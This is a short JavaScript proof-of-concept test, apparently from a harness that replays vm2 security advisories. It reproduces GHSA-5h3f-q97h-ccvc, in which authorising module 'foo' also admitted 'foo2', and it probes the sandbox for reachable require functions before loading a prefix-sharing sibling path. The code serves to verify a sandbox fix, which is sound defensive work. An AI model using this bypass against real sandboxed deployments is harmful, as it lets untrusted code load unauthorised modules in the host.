// Source: vm2 advisory GHSA-5h3f-q97h-ccvc (test/ghsa/GHSA-5h3f-q97h-ccvc/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): a custom resolver's authorisation had no path boundary: `foo` authorised `foo2`, with the module loaded by the host.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require a prefix-sharing sibling of an authorised path.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    __wr.use(req('foo'), 'allowed module'); __wr.use(req(query.canaryFile + '2'), 'prefix-sharing sibling');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
